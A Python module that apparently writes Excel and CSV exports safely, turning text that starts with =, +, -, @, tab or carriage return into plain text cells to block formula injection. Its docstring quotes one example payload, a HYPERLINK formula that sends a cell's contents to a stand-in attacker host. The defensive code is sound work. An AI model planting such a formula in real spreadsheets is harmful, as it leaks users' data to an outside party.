"""Cells that stay what they say: text that looks like a formula is written as text.

A blocker described as ``=HYPERLINK("http://evil.example/?"&A1,"详情")`` or a
note starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must
not become a live formula in the workbooks guatu writes (OWASP's CSV/formula
injection guidance). Every workbook writer passes its rows through ``safe_row``;
the cell keeps the exact text, so an export read back compares equal.
"""

from collections.abc import Iterable
from datetime import date
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

__all__ = [
    "FORMULA_TRIGGERS",
    "book_properties",
    "csv_safe",
    "safe_row",
    "safe_value",
    "write_sheet",
]

_BOLD = Font(bold=True)

#: What a spreadsheet program may read as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def book_properties(book, *, creator: str, title: str) -> None:
    """A workbook handed to a person names who issues it (the city's office) and what it
    is, as Excel's file properties show them; openpyxl would say "openpyxl" made it."""
    properties = book.properties
    properties.creator = properties.lastModifiedBy = creator
    properties.title = title


def csv_safe(value: Any) -> Any:
    """*value* for a CSV cell: text a spreadsheet would run as a formula (=HYPERLINK(…),
    +1, -1, @SUM …) gets a leading apostrophe, so Excel shows it as the text it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_value(sheet, value: Any) -> Any:
    """Return *value*, or a text cell holding it when it could be read as a formula."""
    if isinstance(value, Cell):
        if isinstance(value.value, str) and value.value.startswith(FORMULA_TRIGGERS):
            value.data_type = "s"
        return value
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def safe_row(sheet, values: Iterable[Any]) -> list[Any]:
    """The row with every formula-like text made a text cell (see ``safe_value``)."""
    return [safe_value(sheet, value) for value in values]


def write_sheet(book, title: str, heading: str, headers: list[str], rows) -> None:
    """A sheet of a write-only *book*: a bold heading line, the column headers (frozen
    above the rows), then *rows*, dates as dates, every cell through ``safe_row``."""
    sheet = book.create_sheet(title)
    sheet.freeze_panes = "A3"
    for index, header in enumerate(headers):
        sheet.column_dimensions[get_column_letter(index + 1)].width = max(12, len(header) * 2 + 2)
    cell = WriteOnlyCell(sheet, value=heading)
    cell.font = _BOLD
    sheet.append(safe_row(sheet, [cell]))
    sheet.append(safe_row(sheet, [WriteOnlyCell(sheet, value=h) for h in headers]))
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, date):
                cell.number_format = "yyyy-mm-dd hh:mm" if hasattr(value, "hour") else "yyyy-mm-dd"
            cells.append(cell)
        sheet.append(safe_row(sheet, cells))
